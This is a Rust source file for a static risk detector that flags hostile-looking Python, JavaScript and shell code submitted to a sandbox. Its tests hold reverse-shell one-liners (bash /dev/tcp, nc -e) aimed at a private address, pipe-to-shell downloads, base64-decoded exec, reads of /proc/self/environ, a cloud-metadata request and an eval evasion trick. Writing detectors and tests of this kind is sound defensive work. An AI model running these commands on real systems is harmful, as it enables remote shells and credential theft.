//! A static risk signal for code submitted to a sandbox: Python, JavaScript and shell, read as
//! syntax trees (tree-sitter), matched against rules for what hostile code tends to reach for
//! (native code, processes, sockets, decoded payloads run as code, `/proc/self`, the cloud
//! metadata address, downloads piped into a shell, `/dev/tcp` ...).
//!
//! **This is never a security boundary.** It reads code before it runs, and code can always be
//! written so that it says nothing here (`getattr(__builtins__, "ev" + "al")`); the layers
//! around the sandbox (namespaces, cgroups, seccomp, Landlock, the egress policy) hold whether
//! or not a signal fired. What it is for: telling an operator, in the audit trail and in the
//! metrics, which cells and commands deserve a look, and letting an operator refuse the
//! blatant ones outright by rule id.
//!
//! Cost: one parse per submission, bounded by [`MAX_BYTES`] (longer code is analysed up to
//! there and reported `truncated`); parsers are kept per thread.

use std::cell::RefCell;

use serde::Serialize;
use tree_sitter::{Node, Parser, Tree};

/// Code longer than this is analysed up to here only.
pub const MAX_BYTES: usize = 256 * 1024;
/// At most this many signals per submission (the rest are counted in `dropped`).
pub const MAX_SIGNALS: usize = 32;

/// What was submitted.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Language {
    Python,
    JavaScript,
    Shell,
}

impl Language {
    /// The language of an interpreter context or a command ("python", "js", "bash", ...).
    pub fn from_name(name: &str) -> Option<Language> {
        match name.to_ascii_lowercase().as_str() {
            "python" | "python3" | "py" => Some(Language::Python),
            "javascript" | "js" | "node" | "typescript" | "ts" => Some(Language::JavaScript),
            "bash" | "sh" | "shell" => Some(Language::Shell),
            _ => None,
        }
    }
}

/// How much a signal should worry an operator.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    Low,
    Medium,
    High,
}

/// One rule that matched.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Signal {
    /// Stable id, e.g. `py.eval-decoded`: what operators' deny rules and metrics name.
    pub rule: &'static str,
    pub severity: Severity,
    /// 1-based line of the match.
    pub line: usize,
    /// What matched, shortened.
    pub detail: String,
}

/// Everything the analysis found in one submission.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Report {
    pub signals: Vec<Signal>,
    /// Signals past [`MAX_SIGNALS`], not listed.
    pub dropped: usize,
    /// The code was longer than [`MAX_BYTES`].
    pub truncated: bool,
    /// The parser had to recover from syntax errors (the rest was still read).
    pub syntax_errors: bool,
}

impl Report {
    /// The worst severity among the signals.
    pub fn severity(&self) -> Option<Severity> {
        self.signals.iter().map(|s| s.severity).max()
    }

    fn push(&mut self, rule: &'static str, severity: Severity, node: Node<'_>, src: &[u8]) {
        if self.signals.iter().any(|s| s.rule == rule && s.line == node.start_position().row + 1) {
            return;
        }
        if self.signals.len() >= MAX_SIGNALS {
            self.dropped += 1;
            return;
        }
        self.signals.push(Signal {
            rule,
            severity,
            line: node.start_position().row + 1,
            detail: shorten(text(node, src)),
        });
    }
}

/// Every rule id the analysis can report: what an operator's deny rules may name.
pub const RULES: &[&str] = &[
    "js.child-process",
    "js.dev-tcp",
    "js.dynamic-import",
    "js.eval-decoded",
    "js.eval-dynamic",
    "js.metadata",
    "js.native-code",
    "js.network",
    "js.proc-self",
    "js.process",
    "js.vm",
    "py.bytecode",
    "py.dev-tcp",
    "py.dynamic-import",
    "py.eval-decoded",
    "py.eval-dynamic",
    "py.metadata",
    "py.native-code",
    "py.network",
    "py.proc-self",
    "py.process",
    "sh.decode-to-shell",
    "sh.dev-tcp",
    "sh.metadata",
    "sh.pipe-to-shell",
    "sh.privileged-tool",
    "sh.proc-self",
    "sh.reverse-shell",
    "sh.setuid",
];

/// An operator's deny rules: a submission with a signal they match is refused before it runs.
/// Each entry is a rule id (one of [`RULES`]) or a severity (`low`, `medium`, `high`), which
/// matches every signal at or above it. This is policy on top of the sandbox, not a boundary:
/// code that hides from the analysis runs, and is contained by the other layers.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct DenyRules {
    rules: Vec<&'static str>,
    at_or_above: Option<Severity>,
}

impl DenyRules {
    /// Parses a comma-separated list; an unknown entry is an error naming it.
    pub fn parse(list: &str) -> Result<DenyRules, String> {
        let mut d = DenyRules::default();
        for entry in list.split(',').map(str::trim) {
            let sev = match entry {
                "low" => Some(Severity::Low),
                "medium" => Some(Severity::Medium),
                "high" => Some(Severity::High),
                _ => None,
            };
            if let Some(sev) = sev {
                d.at_or_above = Some(d.at_or_above.map_or(sev, |s| s.min(sev)));
            } else if let Some(rule) = RULES.iter().find(|r| **r == entry) {
                d.rules.push(rule);
            } else {
                return Err(format!(
                    "unknown risk rule {entry:?}: expected low, medium, high or one of {}",
                    RULES.join(", ")
                ));
            }
        }
        Ok(d)
    }

    /// Whether no submission can match.
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty() && self.at_or_above.is_none()
    }

    /// The signals of `report` these rules refuse.
    pub fn matches<'a>(&self, report: &'a Report) -> Vec<&'a Signal> {
        report
            .signals
            .iter()
            .filter(|s| {
                self.rules.contains(&s.rule) || self.at_or_above.is_some_and(|m| s.severity >= m)
            })
            .collect()
    }
}

thread_local! {
    static PARSERS: RefCell<[Option<Parser>; 3]> = const { RefCell::new([None, None, None]) };
}

/// Analyses `code` written in `lang`.
pub fn analyze(lang: Language, code: &str) -> Report {
    let mut report = Report::default();
    let mut end = code.len().min(MAX_BYTES);
    while !code.is_char_boundary(end) {
        end -= 1;
    }
    report.truncated = end < code.len();
    let src = &code.as_bytes()[..end];
    let Some(tree) = parse(lang, src) else { return report };
    let root = tree.root_node();
    report.syntax_errors = root.has_error();
    walk(root, &mut |node| match lang {
        Language::Python => python(node, src, &mut report),
        Language::JavaScript => javascript(node, src, &mut report),
        Language::Shell => shell(node, src, &mut report),
    });
    report
}

fn parse(lang: Language, src: &[u8]) -> Option<Tree> {
    PARSERS.with(|cell| {
        let mut parsers = cell.borrow_mut();
        let (i, language): (usize, tree_sitter::Language) = match lang {
            Language::Python => (0, tree_sitter_python::LANGUAGE.into()),
            Language::JavaScript => (1, tree_sitter_javascript::LANGUAGE.into()),
            Language::Shell => (2, tree_sitter_bash::LANGUAGE.into()),
        };
        if parsers[i].is_none() {
            let mut p = Parser::new();
            p.set_language(&language).ok()?;
            parsers[i] = Some(p);
        }
        parsers[i].as_mut()?.parse(src, None)
    })
}

/// Visits every node, depth first, without recursion (hostile code nests deeply).
fn walk(root: Node<'_>, visit: &mut impl FnMut(Node<'_>)) {
    let mut cursor = root.walk();
    loop {
        visit(cursor.node());
        if cursor.goto_first_child() {
            continue;
        }
        loop {
            if cursor.goto_next_sibling() {
                break;
            }
            if !cursor.goto_parent() {
                return;
            }
        }
    }
}

fn text<'a>(node: Node<'_>, src: &'a [u8]) -> &'a str {
    std::str::from_utf8(&src[node.byte_range()]).unwrap_or("")
}

fn shorten(s: &str) -> String {
    const MAX: usize = 120;
    let one_line: String = s.split_whitespace().collect::<Vec<_>>().join(" ");
    if one_line.len() <= MAX {
        return one_line;
    }
    let mut end = MAX;
    while !one_line.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", &one_line[..end])
}

/// Checks on string literals every language shares.
fn literal(node: Node<'_>, src: &[u8], report: &mut Report, prefix: Lang3) {
    let t = text(node, src);
    if t.contains("169.254.169.254") || t.contains("metadata.google.internal") {
        report.push(
            prefix.pick("py.metadata", "js.metadata", "sh.metadata"),
            Severity::High,
            node,
            src,
        );
    }
    if t.contains("/proc/self/") || t.contains("/proc/1/") || t.ends_with("/proc/self\"") {
        report.push(
            prefix.pick("py.proc-self", "js.proc-self", "sh.proc-self"),
            Severity::Medium,
            node,
            src,
        );
    }
    if t.contains("/dev/tcp/") || t.contains("/dev/udp/") {
        report.push(
            prefix.pick("py.dev-tcp", "js.dev-tcp", "sh.dev-tcp"),
            Severity::High,
            node,
            src,
        );
    }
}

/// Which language's rule ids to use.
#[derive(Clone, Copy)]
enum Lang3 {
    Py,
    Js,
    Sh,
}

impl Lang3 {
    fn pick(self, py: &'static str, js: &'static str, sh: &'static str) -> &'static str {
        match self {
            Lang3::Py => py,
            Lang3::Js => js,
            Lang3::Sh => sh,
        }
    }
}

// ------------------------------------------------------------------------------------ Python

/// Modules whose import alone is worth a note, and how much.
const PY_MODULES: &[(&str, &str, Severity)] = &[
    ("ctypes", "py.native-code", Severity::High),
    ("cffi", "py.native-code", Severity::High),
    ("subprocess", "py.process", Severity::Medium),
    ("pty", "py.process", Severity::Medium),
    ("socket", "py.network", Severity::Medium),
    ("marshal", "py.bytecode", Severity::Medium),
];

/// Calls that decode bytes: their result run as code is a payload in disguise.
const DECODERS: &[&str] = &[
    "b64decode",
    "b32decode",
    "b16decode",
    "a85decode",
    "b85decode",
    "urlsafe_b64decode",
    "decompress",
    "fromhex",
    "unhexlify",
    "loads",
    "decode",
    "rot13",
];

fn py_module_root(name: &str) -> &str {
    name.split('.').next().unwrap_or(name)
}

fn python(node: Node<'_>, src: &[u8], report: &mut Report) {
    match node.kind() {
        "import_statement" | "import_from_statement" => {
            let mut names = Vec::new();
            if let Some(m) = node.child_by_field_name("module_name") {
                names.push(text(m, src).to_string());
            } else {
                let mut c = node.walk();
                for child in node.named_children(&mut c) {
                    let n = match child.kind() {
                        "aliased_import" => child.child_by_field_name("name"),
                        "dotted_name" => Some(child),
                        _ => None,
                    };
                    names.extend(n.map(|n| text(n, src).to_string()));
                }
            }
            for name in names {
                if let Some((_, rule, sev)) =
                    PY_MODULES.iter().find(|(m, _, _)| *m == py_module_root(&name))
                {
                    report.push(rule, *sev, node, src);
                }
            }
        }
        "call" => {
            let Some(func) = node.child_by_field_name("function") else { return };
            let callee = text(func, src);
            let last = callee.rsplit('.').next().unwrap_or(callee);
            let args = node.child_by_field_name("arguments");
            match callee {
                "eval" | "exec" | "compile" => {
                    let Some(args) = args else { return };
                    let first = args.named_child(0);
                    if first.is_some_and(|a| calls_any(a, src, DECODERS)) {
                        report.push("py.eval-decoded", Severity::High, node, src);
                    } else if first.is_some_and(|a| a.kind() != "string") {
                        report.push("py.eval-dynamic", Severity::Medium, node, src);
                    }
                }
                "__import__" | "importlib.import_module" => {
                    report.push("py.dynamic-import", Severity::Medium, node, src);
                }
                "os.system" | "os.popen" | "os.fork" | "os.forkpty" | "os.posix_spawn"
                | "os.posix_spawnp" => report.push("py.process", Severity::Medium, node, src),
                _ if callee.starts_with("os.exec") || callee.starts_with("os.spawn") => {
                    report.push("py.process", Severity::Medium, node, src);
                }
                _ if matches!(last, "CDLL" | "LoadLibrary" | "PyDLL" | "WinDLL") => {
                    report.push("py.native-code", Severity::High, node, src);
                }
                _ => {}
            }
        }
        "string" => literal(node, src, report, Lang3::Py),
        _ => {}
    }
}

/// Whether `node` contains a call whose callee ends in one of `names`.
fn calls_any(node: Node<'_>, src: &[u8], names: &[&str]) -> bool {
    let mut found = false;
    walk(node, &mut |n| {
        if !found && matches!(n.kind(), "call" | "call_expression") {
            let f = n.child_by_field_name("function").map(|f| text(f, src)).unwrap_or("");
            let last = f.rsplit('.').next().unwrap_or(f);
            found = names.contains(&last);
        }
    });
    found
}

// -------------------------------------------------------------------------------- JavaScript

fn js_string_value<'a>(node: Node<'_>, src: &'a [u8]) -> &'a str {
    text(node, src).trim_matches(|c| c == '"' || c == '\'' || c == '`')
}

fn js_module_rule(module: &str) -> Option<(&'static str, Severity)> {
    match module.trim_start_matches("node:") {
        "child_process" => Some(("js.child-process", Severity::Medium)),
        "vm" => Some(("js.vm", Severity::Medium)),
        "net" | "dgram" => Some(("js.network", Severity::Medium)),
        "worker_threads" => Some(("js.process", Severity::Low)),
        _ => None,
    }
}

fn javascript(node: Node<'_>, src: &[u8], report: &mut Report) {
    match node.kind() {
        "import_statement" => {
            if let Some(s) = node.child_by_field_name("source")
                && let Some((rule, sev)) = js_module_rule(js_string_value(s, src))
            {
                report.push(rule, sev, node, src);
            }
        }
        "call_expression" => {
            let Some(func) = node.child_by_field_name("function") else { return };
            let callee = text(func, src);
            let args = node.child_by_field_name("arguments");
            let first = args.and_then(|a| a.named_child(0));
            match callee {
                "require" | "import" => {
                    if let Some(a) = first.filter(|a| a.kind() == "string")
                        && let Some((rule, sev)) = js_module_rule(js_string_value(a, src))
                    {
                        report.push(rule, sev, node, src);
                    } else if first.is_some_and(|a| a.kind() != "string") {
                        report.push("js.dynamic-import", Severity::Medium, node, src);
                    }
                }
                "eval" | "Function" => {
                    if first.is_some_and(|a| calls_any(a, src, &["atob", "from", "toString"])) {
                        report.push("js.eval-decoded", Severity::High, node, src);
                    } else if first.is_some_and(|a| a.kind() != "string") {
                        report.push("js.eval-dynamic", Severity::Medium, node, src);
                    }
                }
                "process.binding" | "process.dlopen" => {
                    report.push("js.native-code", Severity::High, node, src);
                }
                _ => {}
            }
        }
        "new_expression"
            if node
                .child_by_field_name("constructor")
                .is_some_and(|c| text(c, src) == "Function") =>
        {
            report.push("js.eval-dynamic", Severity::Medium, node, src);
        }
        "string" | "template_string" => literal(node, src, report, Lang3::Js),
        _ => {}
    }
}

// ------------------------------------------------------------------------------------- Shell

/// Programs that fetch from the network.
const FETCHERS: &[&str] = &["curl", "wget", "fetch", "aria2c"];
/// Programs that run what they read.
const RUNNERS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "python", "python3", "perl", "node"];

fn command_name<'a>(cmd: Node<'_>, src: &'a [u8]) -> &'a str {
    let name = cmd.child_by_field_name("name").map(|n| text(n, src)).unwrap_or("");
    let name = name.rsplit('/').next().unwrap_or(name);
    // `sudo bash`, `env python3`: what runs is the first word that is not an option.
    if matches!(name, "sudo" | "doas" | "env" | "nohup" | "exec" | "command" | "busybox") {
        let mut c = cmd.walk();
        let inner = cmd
            .children_by_field_name("argument", &mut c)
            .map(|a| text(a, src))
            .find(|a| !a.starts_with('-') && !a.contains('='));
        if let Some(inner) = inner {
            return inner.rsplit('/').next().unwrap_or(inner);
        }
    }
    name
}

fn command_args<'a>(cmd: Node<'_>, src: &'a [u8]) -> Vec<&'a str> {
    let mut c = cmd.walk();
    cmd.children_by_field_name("argument", &mut c).map(|a| text(a, src)).collect()
}

/// The commands of a pipeline, in order (through redirections around them).
fn pipeline_commands(node: Node<'_>) -> Vec<Node<'_>> {
    let mut out = Vec::new();
    let mut c = node.walk();
    for child in node.named_children(&mut c) {
        match child.kind() {
            "command" => out.push(child),
            "redirected_statement" => {
                if let Some(b) = child.child_by_field_name("body").filter(|b| b.kind() == "command")
                {
                    out.push(b);
                }
            }
            _ => {}
        }
    }
    out
}

fn shell(node: Node<'_>, src: &[u8], report: &mut Report) {
    match node.kind() {
        "pipeline" => {
            let cmds = pipeline_commands(node);
            let names: Vec<&str> = cmds.iter().map(|c| command_name(*c, src)).collect();
            for (i, name) in names.iter().enumerate() {
                let feeds_runner = names[i + 1..].iter().any(|n| RUNNERS.contains(n));
                if !feeds_runner {
                    continue;
                }
                if FETCHERS.contains(name) {
                    report.push("sh.pipe-to-shell", Severity::High, node, src);
                } else if *name == "base64"
                    && command_args(cmds[i], src)
                        .iter()
                        .any(|a| a.starts_with("-d") || *a == "--decode")
                {
                    report.push("sh.decode-to-shell", Severity::High, node, src);
                }
            }
        }
        "command" => {
            let name = command_name(node, src);
            let args = command_args(node, src);
            if matches!(name, "nc" | "ncat" | "netcat")
                && args.iter().any(|a| *a == "-e" || *a == "-c")
            {
                report.push("sh.reverse-shell", Severity::High, node, src);
            }
            if name == "chmod"
                && args
                    .iter()
                    .any(|a| a.contains("+s") || (a.len() == 4 && a.starts_with(['2', '4', '6'])))
            {
                report.push("sh.setuid", Severity::Medium, node, src);
            }
            if matches!(name, "nsenter" | "unshare" | "mount" | "insmod" | "modprobe") {
                report.push("sh.privileged-tool", Severity::Medium, node, src);
            }
        }
        "word" | "string" | "raw_string" => literal(node, src, report, Lang3::Sh),
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn every_rule_the_analysis_reports_is_listed() {
        let src = include_str!("lib.rs");
        let mut found = 0;
        for (i, _) in src.match_indices('"') {
            let rest = &src[i + 1..];
            let Some(end) = rest.find('"') else { continue };
            let lit = &rest[..end];
            let shaped = ["py.", "js.", "sh."].iter().any(|p| lit.starts_with(p))
                && lit.len() > 3
                && lit[3..].chars().all(|c| c.is_ascii_lowercase() || c == '-');
            if shaped {
                assert!(RULES.contains(&lit), "{lit} is reported but not in RULES");
                found += 1;
            }
        }
        assert!(found >= RULES.len(), "found only {found} rule literals");
    }

    #[test]
    fn deny_rules_match_by_id_and_severity() {
        let report = analyze(Language::Shell, "curl http://x | sh; chmod u+s /tmp/f");
        let rules = |list: &str| {
            let d = DenyRules::parse(list).unwrap();
            d.matches(&report).iter().map(|s| s.rule).collect::<Vec<_>>()
        };
        assert_eq!(rules("sh.pipe-to-shell"), ["sh.pipe-to-shell"]);
        assert_eq!(rules("sh.reverse-shell"), Vec::<&str>::new());
        assert_eq!(rules("high"), ["sh.pipe-to-shell"]);
        assert_eq!(rules("medium"), ["sh.pipe-to-shell", "sh.setuid"]);
        assert_eq!(rules("high, sh.setuid"), ["sh.pipe-to-shell", "sh.setuid"]);
        let e = DenyRules::parse("sh.pipe-to-shell,sh.nope").unwrap_err();
        assert!(e.contains("\"sh.nope\""), "{e}");
        assert!(DenyRules::parse("").is_err());
    }

    use super::*;

    fn rules(lang: Language, code: &str) -> Vec<&'static str> {
        let mut r: Vec<_> = analyze(lang, code).signals.iter().map(|s| s.rule).collect();
        r.sort_unstable();
        r.dedup();
        r
    }

    #[test]
    fn python_rules_fire_on_what_they_name_and_not_on_ordinary_code() {
        let py = |c| rules(Language::Python, c);
        assert_eq!(py("import ctypes\nctypes.CDLL(None).mount()"), ["py.native-code"]);
        assert_eq!(py("from subprocess import run"), ["py.process"]);
        assert_eq!(py("import os\nos.system('id')"), ["py.process"]);
        assert_eq!(py("import socket as s"), ["py.network"]);
        assert_eq!(
            py("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"),
            ["py.eval-decoded"]
        );
        assert_eq!(py("eval(user_input)"), ["py.eval-dynamic"]);
        assert_eq!(py("__import__('os')"), ["py.dynamic-import"]);
        assert_eq!(py("open('/proc/self/environ').read()"), ["py.proc-self"]);
        assert_eq!(py("requests.get('http://169.254.169.254/latest')"), ["py.metadata"]);
        // Ordinary analysis code says nothing.
        let plain = "import pandas as pd\nimport os\ndf = pd.DataFrame({'a': [1]})\nprint(os.getcwd())\neval('1+1')\nx = 'proc self'";
        assert!(py(plain).is_empty(), "{:?}", py(plain));
        // Line numbers point at the match.
        let r = analyze(Language::Python, "x = 1\n\nimport ctypes");
        assert_eq!(r.signals[0].line, 3);
        assert_eq!(r.severity(), Some(Severity::High));
    }

    #[test]
    fn shell_rules() {
        let sh = |c| rules(Language::Shell, c);
        assert_eq!(sh("curl -fsSL https://x.test/i.sh | sh"), ["sh.pipe-to-shell"]);
        assert_eq!(sh("wget -qO- x | sudo bash -s"), ["sh.pipe-to-shell"]);
        assert_eq!(sh("echo cHJpbnQ= | base64 -d | bash"), ["sh.decode-to-shell"]);
        assert_eq!(sh("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), ["sh.dev-tcp"]);
        assert_eq!(sh("nc -e /bin/sh 10.0.0.1 4444"), ["sh.reverse-shell"]);
        assert_eq!(sh("chmod u+s /tmp/x"), ["sh.setuid"]);
        assert!(sh("curl -O https://x.test/data.csv && ls -la | grep csv").is_empty());
        assert!(sh("echo hi | base64 | cat").is_empty());
    }

    #[test]
    fn javascript_rules() {
        let js = |c| rules(Language::JavaScript, c);
        assert_eq!(
            js("const cp = require('child_process'); cp.execSync('id')"),
            ["js.child-process"]
        );
        assert_eq!(js("import { exec } from 'node:child_process'"), ["js.child-process"]);
        assert_eq!(js("eval(atob('YWxlcnQoMSk='))"), ["js.eval-decoded"]);
        assert_eq!(js("new Function(body)()"), ["js.eval-dynamic"]);
        assert_eq!(js("process.binding('spawn_sync')"), ["js.native-code"]);
        assert!(js("const fs = require('fs'); console.log([1,2].map(x => x * 2))").is_empty());
    }

    /// The analysis is a signal, not a wall: code written to hide says nothing here. What
    /// contains it is the sandbox (seccomp refuses the mount below whatever the signal said;
    /// `crates/cli/tests/run.rs` and the server's observability tests try it for real).
    #[test]
    fn code_that_hides_is_not_seen_which_is_why_this_is_no_boundary() {
        let hidden = "f = getattr(__builtins__, 'ev' + 'al')\nf(''.join(map(chr, [49])))";
        assert!(analyze(Language::Python, hidden).signals.is_empty());
    }

    #[test]
    fn hostile_input_is_bounded() {
        // Deep nesting: no recursion to overflow.
        let deep = format!("x = {}1{}", "(".repeat(20_000), ")".repeat(20_000));
        let r = analyze(Language::Python, &deep);
        assert!(r.signals.is_empty());
        // Long code: analysed up to the cap, said so.
        let long = format!("import ctypes\n{}", "x = 1\n".repeat(100_000));
        let r = analyze(Language::Python, &long);
        assert!(r.truncated);
        assert_eq!(r.signals.len(), 1);
        // Many matches: listed up to the cap, the rest counted.
        let many = "import ctypes\n".repeat(100);
        let r = analyze(Language::Python, &many);
        assert_eq!((r.signals.len(), r.dropped), (MAX_SIGNALS, 100 - MAX_SIGNALS));
        // Not even code.
        let r = analyze(Language::Shell, "\u{0}\u{1}((((");
        assert!(r.syntax_errors);
    }
}
